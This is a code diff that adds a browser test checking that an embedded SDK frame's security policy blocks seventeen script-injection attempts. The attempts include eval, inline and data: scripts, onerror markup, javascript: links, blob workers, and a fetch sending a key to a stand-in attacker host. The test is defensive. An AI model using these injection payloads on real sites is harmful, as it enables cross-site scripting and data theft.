@@ -212,3 +212,74 @@ test('T29 T30 our own pages reveal nothing to their opener, and stand in no fram
   }
   expect(problems.filter((text) => text.includes('frame-ancestors'))).toHaveLength(paths.length)
 })
+
+test('T109 scripts, eval, markup and workers that are slipped into the frame do not run', async ({
+  page,
+}) => {
+  await openFrameHost(page)
+  await page.evaluate(() => window.host.connect())
+  const frame = page.frames().find((each) => each.url().startsWith(`${devEnvironment().vault}/sdk`))
+  const outcomes = await frame?.evaluate(async () => {
+    const harmed = () => Reflect.get(window, 'harmed') !== undefined
+    const violations: string[] = []
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      violations.push(effectiveDirective),
+    )
+    const text = 'window.harmed = true'
+    const add = (name: 'script' | 'iframe' | 'a', fill: (element: HTMLElement) => void) => {
+      const element = document.createElement(name)
+      fill(element)
+      document.body.append(element)
+      element.click()
+    }
+    const attempts: Record<string, () => unknown> = {
+      eval: () => Reflect.apply(Reflect.get(window, 'eval'), undefined, [text]),
+      function: () => new Function(text)(),
+      timer: () => Reflect.apply(setTimeout, window, [text, 0]),
+      inline: () => add('script', (element) => element.append(text)),
+      sink: () => add('script', (element) => Reflect.set(element, 'text', text)),
+      foreign: () =>
+        add('script', (element) => Reflect.set(element, 'src', 'https://evil.example/a.js')),
+      data: () => add('script', (element) => Reflect.set(element, 'src', `data:,${text}`)),
+      markup: () => Reflect.set(document.body, 'innerHTML', `<img src=x onerror="${text}">`),
+      adjacent: () => document.body.insertAdjacentHTML('beforeend', `<img onerror="${text}">`),
+      write: () => document.write(`<script>${text}</script>`),
+      parser: () => new DOMParser().parseFromString(`<script>${text}</script>`, 'text/html'),
+      handler: () => add('a', (element) => element.setAttribute('onclick', text)),
+      link: () => add('a', (element) => element.setAttribute('href', `javascript:${text}`)),
+      frame: () => add('iframe', (element) => Reflect.set(element, 'srcdoc', `<script>top.x=1`)),
+      worker: () => new Worker(URL.createObjectURL(new Blob([text]))),
+      policy: () =>
+        Reflect.get(window, 'trustedTypes').createPolicy('evil', { createHTML: (x: string) => x }),
+      network: () => fetch('https://evil.example/?key=1'),
+    }
+    const found: Record<string, string> = {}
+    // The debugger's own call may do what a script may not: the attempts begin after it.
+    await new Promise((done) => setTimeout(done, 0))
+    for (const [name, attempt] of Object.entries(attempts)) {
+      const before = violations.length
+      let isThrown = false
+      try {
+        await attempt()
+      } catch {
+        isThrown = true
+      }
+      await new Promise((done) => setTimeout(done, 30))
+      const isReported = violations.length > before
+      const isRun = harmed()
+      Reflect.deleteProperty(window, 'harmed')
+      found[name] = isRun ? 'ran' : isThrown || isReported ? 'blocked' : 'unnoticed'
+    }
+    return { found, directives: [...new Set(violations)] }
+  })
+  const { directives = [], found = {} } = outcomes ?? {}
+  expect(Object.entries(found).filter(([, outcome]) => outcome !== 'blocked')).toEqual([])
+  expect(Object.keys(found)).toHaveLength(17)
+  expect(directives).toEqual(
+    expect.arrayContaining(['script-src-elem', 'require-trusted-types-for', 'connect-src']),
+  )
+  // The frame itself still answers: nothing of it was replaced.
+  expect(await page.evaluate(() => window.host.ask('GET_CHAIN_ID'))).toMatchObject({
+    type: '@w3m-frame/GET_CHAIN_ID_SUCCESS',
+  })
+})
